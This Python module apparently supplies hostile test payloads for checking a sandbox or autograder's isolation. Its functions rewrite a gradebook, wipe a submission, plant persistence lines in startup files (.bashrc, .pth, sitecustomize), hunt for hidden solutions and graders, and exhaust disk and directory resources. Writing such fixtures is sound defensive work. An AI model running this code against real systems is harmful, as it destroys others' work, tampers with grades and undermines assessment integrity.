"""Hostile code that goes for files. Each gets a folder to harm and tells what it achieved."""

import os
import sqlite3
import sys
import tempfile
from pathlib import Path


def rewrite_the_gradebook(victim: str) -> list[str]:
    """Give everybody the best grade, and spoil another's work."""
    got = []
    try:
        with sqlite3.connect(Path(victim, "gradebook.db")) as book:
            book.execute("UPDATE grade SET score = 297")
        got.append("wrote the gradebook")
    except sqlite3.Error:
        pass
    try:
        Path(victim, "submission.ipynb").write_text("{}")
        got.append("spoilt a submission")
    except OSError:
        pass
    return got


def persist_in_startup_files(victim: str) -> list[str]:
    """Run again in every later Python of the account."""
    del victim
    places = [
        Path(sys.prefix).parents[0] / ".ipython/profile_default/startup/00.py",
        Path("/home/.bashrc"),
        *(Path(folder, "box-attack.pth") for folder in sys.path if folder.startswith("/")),
        *(Path(folder, "sitecustomize.py") for folder in sys.path if folder.startswith("/")),
    ]
    got = []
    for place in places:
        try:
            place.parent.mkdir(parents=True, exist_ok=True)
            with place.open("a") as file:
                file.write("import os  # left by an attack\n")
            got.append(f"wrote {place}")
        except OSError:
            continue
    return got


def find_the_answers(victim: str) -> list[str]:
    """Look everywhere for solutions, hidden checks and other people's work."""
    words = ("solutions", "graders", "submitted", "gradebook", "autograded")
    got = []
    for root in ("/", os.path.dirname(victim), os.path.dirname(sys.prefix), *sys.path):
        for folder, folders, files in os.walk(root):
            if folder.count("/") > 6 or folder.startswith(("/proc", "/sys", "/usr")):
                folders.clear()
            got += [os.path.join(folder, n) for n in files + folders if n.startswith(words)]
    try:
        import graders.exercises.ch01  # noqa: F401

        got.append("imported the hidden checks")
    except (ImportError, OSError):
        pass
    return [each for each in got if "site-packages" not in each and "/course/" not in each]


def leave_what_cannot_be_removed(victim: str) -> list[str]:
    """Nest folders without end, close them, and lay links to somebody else's files."""
    os.chdir(tempfile.gettempdir())
    os.symlink(victim, "link")
    try:
        for _ in range(2500):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    os.mkdir("closed", mode=0)
    return []


def use_up_the_names(victim: str) -> list[str]:
    """Make more files than anybody needs."""
    del victim
    made = 0
    try:
        for number in range(20000):
            os.close(os.open(f"n{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError:
        pass
    return []
